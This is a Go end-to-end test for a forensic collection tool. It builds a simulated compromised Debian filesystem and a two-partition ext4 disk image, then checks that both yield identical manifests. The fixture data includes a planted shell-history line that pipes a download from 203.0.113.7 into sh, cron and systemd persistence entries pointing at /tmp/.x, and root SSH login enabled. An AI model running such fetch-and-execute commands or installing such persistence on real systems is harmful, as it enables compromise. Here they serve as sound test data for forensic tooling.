//go:build linux

package e2e

import (
	"bytes"
	"encoding/binary"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"spor/artifacts"
	"spor/package/manifest"
)

// TestLinuxImage examines a disk of two ext4 volumes, joined by its /etc/fstab, and beside it the folder they were made
// of: both must hold the same entries with the same content.
func TestLinuxImage(t *testing.T) {
	root := linuxFolder(t)
	disk := linuxDisk(t, root)
	want, got := collectElsewhere(t, "--root", root), collectElsewhere(t, "--image", disk)
	if got.Host.Hostname != "victim" || got.Host.OS != artifacts.Linux || got.Host.OSName != want.Host.OSName || got.Host.MachineID != want.Host.MachineID {
		t.Errorf("the image is %+v, the folder %+v", got.Host, want.Host)
	}
	entries := byOrigin(want)
	for _, e := range got.Entries {
		origin := e.Origin
		w, ok := entries[origin]
		delete(entries, origin)
		switch {
		case origin == "" || strings.HasPrefix(string(origin), "/lost+found") || strings.HasPrefix(string(origin), "/var/lost+found"):
		case !ok:
			t.Errorf("%s is in the image's bundle alone", origin)
		case e.SHA256 != w.SHA256 || e.Size != w.Size || e.Mode != w.Mode || e.UID != w.UID || e.Link != w.Link || e.Times.Modified.Unix() != w.Times.Modified.Unix():
			t.Errorf("%s of the image: %+v, of the folder: %+v", origin, e, w)
		case e.Link == "" && e.Method != "raw ext4":
			t.Errorf("%s was read by %q", origin, e.Method)
		}
	}
	for origin := range entries {
		if origin != "" {
			t.Errorf("%s is in the folder's bundle alone", origin)
		}
	}
	if n := len(byOrigin(got)); n < 10 {
		t.Errorf("%d entries", n)
	}
}

func byOrigin(m manifest.Manifest) map[artifacts.Path]manifest.Entry {
	all := map[artifacts.Path]manifest.Entry{}
	for _, e := range m.Entries {
		all[e.Origin] = e
	}
	return all
}

func collectElsewhere(t *testing.T, flag, value string) manifest.Manifest {
	t.Helper()
	m, _ := collectLive(t, flag, value)
	return m
}

func linuxFolder(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range map[string]string{
		"etc/passwd":                   "root:x:0:0::/root:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/bash\n",
		"etc/group":                    "root:x:0:\nanna:x:1000:\n",
		"etc/hostname":                 "victim\n",
		"etc/machine-id":               "0123456789abcdef0123456789abcdef\n",
		"usr/lib/os-release":           "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n",
		"etc/fstab":                    "# made up\nUUID=11111111-2222-3333-4444-555555555555 / ext4 defaults 0 1\nLABEL=logs /var ext4 defaults 0 2\n",
		"etc/crontab":                  "* * * * * root /tmp/.x\n",
		"etc/ssh/sshd_config":          "PermitRootLogin yes\n",
		"etc/systemd/system/x.service": "[Service]\nExecStart=/tmp/.x\n",
		"root/.bash_history":           "curl http://203.0.113.7/x | sh\n",
		"home/anna/.bash_history":      "sudo -l\n",
		"home/anna/.ssh/known_hosts":   "host ssh-ed25519 AAAA\n",
		"var/log/auth.log":             strings.Repeat("Nov 21 20:00:00 victim sshd[1]: Accepted password for anna from 203.0.113.7\n", 5000),
		"var/log/syslog":               "Nov 21 20:00:00 victim kernel: x\n",
		"var/log/wtmp":                 strings.Repeat("\x00", 384),
		"var/log/empty.log":            "",
		"var/spool/cron/crontabs/anna": "@reboot /home/anna/.x\n",
		"var/log/odd-\xff.log":         "a name of bytes\n",
	} {
		full := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o640); err != nil {
			t.Fatal(err)
		}
	}
	for name, to := range map[string]string{"etc/os-release": "../usr/lib/os-release", "etc/localtime": "/usr/share/zoneinfo/Europe/Oslo"} {
		if err := os.Symlink(to, filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// linuxDisk makes a disk of a folder: /var is on the first partition, all else on the second.
func linuxDisk(t *testing.T, root string) string {
	t.Helper()
	dir := t.TempDir()
	rest := filepath.Join(dir, "rest")
	tool(t, "cp", "-a", root, rest)
	tool(t, "sh", "-c", `find "$0/var" -mindepth 1 -delete`, rest)
	first, second := filepath.Join(dir, "var.img"), filepath.Join(dir, "root.img")
	tool(t, "mke2fs", "-q", "-F", "-t", "ext4", "-L", "logs", "-d", filepath.Join(root, "var"), first, "8M")
	tool(t, "mke2fs", "-q", "-F", "-t", "ext4", "-d", rest, second, "8M")
	disk := make([]byte, 2048*512)
	disk[510], disk[511] = 0x55, 0xaa
	for i, name := range []string{first, second} {
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		e := disk[446+16*i:]
		e[4] = 0x83
		binary.LittleEndian.PutUint32(e[8:], uint32(len(disk)/512))
		binary.LittleEndian.PutUint32(e[12:], uint32(len(b)/512))
		disk = append(disk, b...)
	}
	name := filepath.Join(dir, "disk.raw")
	if err := os.WriteFile(name, disk, 0o600); err != nil {
		t.Fatal(err)
	}
	return name
}

// tool runs another's program, or skips the test loudly where there is none.
func tool(t *testing.T, name string, args ...string) {
	t.Helper()
	full, err := exec.LookPath(name)
	if err != nil {
		if full, err = exec.LookPath("/usr/sbin/" + name); err != nil {
			t.Skipf("NOT TESTED on an image of e2fsprogs: %v", err)
		}
	}
	if out, err := exec.Command(full, args...).CombinedOutput(); err != nil {
		t.Fatalf("%s %q: %v: %s", name, args, err, bytes.TrimSpace(out))
	}
}
